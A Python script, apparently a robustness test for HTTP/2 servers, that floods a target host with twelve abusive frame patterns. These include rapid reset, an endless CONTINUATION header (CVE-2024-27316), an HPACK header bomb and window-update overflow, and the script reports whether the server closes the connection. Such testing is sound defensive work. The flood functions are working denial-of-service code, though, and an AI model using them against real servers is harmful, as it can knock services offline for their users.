"""Sets upon a server over HTTP/2, in one of several ways, until it ends the connection.

    h2_flood.py HOST PORT FORM WAY

FORM is the path of a request that is not answered before its body has come, without a credential.
Prints how the server ended it, as `goaway CODE WORDS` or `closed`, and how many frames that took.
Exits with 1 if it did not, and with 2 if it did something else that it should not.
"""

import select
import socket
import sys

import h2.config
import h2.connection
import h2.events
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

FRAMES = 50_000
PATIENCE = 10.0


class Ended(Exception):
    """The server ended the connection."""


class Connection:
    """A connection whose handshake is done, and on which anything may be sent."""

    def __init__(self, host: str, port: int, form: str):
        self.path = form
        self.socket = socket.create_connection((host, port), timeout=PATIENCE)
        polite = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        polite.initiate_connection()
        self.socket.sendall(polite.data_to_send())
        self.encoder = Encoder()
        self.received = b""
        self.refused = 0
        self.goaway = None

    def headers(self, stream: int, method: str = "GET", path: str = "/v1/models") -> HeadersFrame:
        frame = HeadersFrame(stream)
        frame.data = self.encoder.encode([
            (":method", method),
            (":scheme", "http"),
            (":authority", "test"),
            (":path", path),
        ])
        return frame

    def form(self, stream: int) -> HeadersFrame:
        """A request that is not answered before its body has come."""
        frame = self.headers(stream, "POST", self.path)
        oauth = self.path.startswith("/oauth/")
        kind = "application/x-www-form-urlencoded" if oauth else "application/grpc"
        frame.data += self.encoder.encode([("content-type", kind)])
        frame.flags = {"END_HEADERS"}
        return frame

    def send(self, frames: list[Frame]) -> None:
        data = b"".join(frame.serialize() for frame in frames)
        view = memoryview(data)
        while view:
            try:
                # Whoever floods and does not read stalls both sides.
                readable, writable, _ = select.select([self.socket], [self.socket], [], PATIENCE)
                if readable:
                    self.read()
                if writable:
                    view = view[self.socket.send(view) :]
                if not readable and not writable:
                    raise TimeoutError("the server takes nothing and says nothing")
            except (ConnectionResetError, BrokenPipeError):
                self.read_rest()
                raise Ended from None

    def read(self) -> None:
        try:
            data = self.socket.recv(65_536)
        except ConnectionResetError:
            raise Ended from None
        if not data:
            raise Ended
        self.received += data
        while len(self.received) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.received[:9]))
            if len(self.received) < 9 + length:
                return
            frame.parse_body(memoryview(self.received[9 : 9 + length]))
            self.received = self.received[9 + length :]
            if isinstance(frame, GoAwayFrame):
                self.goaway = f"{frame.error_code} {frame.additional_data.decode()}".rstrip()
            if isinstance(frame, RstStreamFrame) and frame.error_code == 7:
                self.refused += 1

    def read_rest(self) -> None:
        """What the server had said before it closed, where a reset has left it."""
        try:
            while True:
                self.read()
        except (Ended, OSError):
            pass

    def wait(self) -> None:
        """Waits for the end, or raises TimeoutError."""
        while True:
            readable, _, _ = select.select([self.socket], [], [], PATIENCE)
            if not readable:
                raise TimeoutError("the connection stays open")
            self.read()


def rapid_reset(connection: Connection, number: int) -> list[Frame]:
    stream = 2 * number + 1
    headers = connection.headers(stream)
    headers.flags = {"END_HEADERS", "END_STREAM"}
    return [headers, RstStreamFrame(stream, error_code=8)]


def settings(_: Connection, number: int) -> list[Frame]:
    return [SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 1000 + number})]


def ping(_: Connection, number: int) -> list[Frame]:
    return [PingFrame(0, opaque_data=number.to_bytes(8, "big"))]


def priority(_: Connection, number: int) -> list[Frame]:
    return [PriorityFrame(2 * number + 1, depends_on=0, stream_weight=1)]


def continuation(connection: Connection, number: int) -> list[Frame]:
    """A header without end (CVE-2024-27316)."""
    if number == 0:
        return [connection.headers(1)]
    frame = ContinuationFrame(1)
    frame.data = connection.encoder.encode([(f"x-{number}", "a" * 100)])
    return [frame]


def empty_continuation(connection: Connection, number: int) -> list[Frame]:
    return [connection.headers(1) if number == 0 else ContinuationFrame(1)]


def header_bomb(connection: Connection, number: int) -> list[Frame]:
    """A header of a few bytes that stands for many: one large entry of the table, repeated."""
    frame = connection.headers(2 * number + 1)
    # A literal that is added to the table, and then its index, again and again (RFC 7541).
    value = b"a" * 3_000
    literal = b"\x40\x01x" + b"\x7f" + varint(len(value) - 127) + value
    frame.data = frame.data + literal + b"\xbe" * 4_000
    frame.flags = {"END_HEADERS", "END_STREAM"}
    return [frame]


def varint(number: int) -> bytes:
    encoded = bytearray()
    while number >= 128:
        encoded.append(number % 128 + 128)
        number //= 128
    return bytes([*encoded, number])


def empty_data(connection: Connection, number: int) -> list[Frame]:
    if number == 0:
        return [connection.form(1)]
    return [DataFrame(1)]


def window_update(_: Connection, number: int) -> list[Frame]:
    """Room for one more byte, which nobody has sent."""
    return [WindowUpdateFrame(0, window_increment=1)]


def window_overflow(_: Connection, number: int) -> list[Frame]:
    """Windows that grow past what there is (RFC 9113, section 6.9.1)."""
    return [WindowUpdateFrame(0, window_increment=2**31 - 1)]


def half_closed(connection: Connection, number: int) -> list[Frame]:
    """Data on a stream that was ended (RFC 9113, section 5.1)."""
    if number == 0:
        headers = connection.headers(1)
        headers.flags = {"END_HEADERS", "END_STREAM"}
        return [headers]
    return [DataFrame(1, data=b"a")]


def too_large_frame(connection: Connection, number: int) -> list[Frame]:
    return [DataFrame(1, data=b"a" * 20_000)]


WAYS = {
    function.__name__: function
    for function in (
        rapid_reset,
        settings,
        ping,
        priority,
        continuation,
        empty_continuation,
        header_bomb,
        empty_data,
        window_update,
        window_overflow,
        half_closed,
        too_large_frame,
    )
}


def flood(connection: Connection, way) -> int:
    number = 0
    try:
        while number < FRAMES:
            batch = [way(connection, number + i) for i in range(50)]
            connection.send([frame for frames in batch for frame in frames])
            number += len(batch)
        connection.wait()
    except Ended:
        pass
    return number


def too_many_streams(connection: Connection) -> int:
    """Opens more streams than it may; those beyond are refused, and the connection stays."""
    opened = 200
    for number in range(opened):
        connection.send([connection.form(2 * number + 1)])
    while connection.refused < opened - 128:
        readable, _, _ = select.select([connection.socket], [], [], PATIENCE)
        if not readable:
            break
        connection.read()
    print(f"{connection.refused} of {opened} streams were refused")
    return 0 if connection.refused == opened - 128 else 2


def main() -> int:
    host, port, form, way = sys.argv[1:]
    connection = Connection(host, int(port), form)
    if way == "too_many_streams":
        return too_many_streams(connection)
    try:
        frames = flood(connection, WAYS[way])
    except TimeoutError as error:
        print(error)
        return 1
    ended = "closed" if connection.goaway is None else f"goaway {connection.goaway}"
    print(f"{ended} after at most {frames + 50} frames")
    return 0


if __name__ == "__main__":
    sys.exit(main())
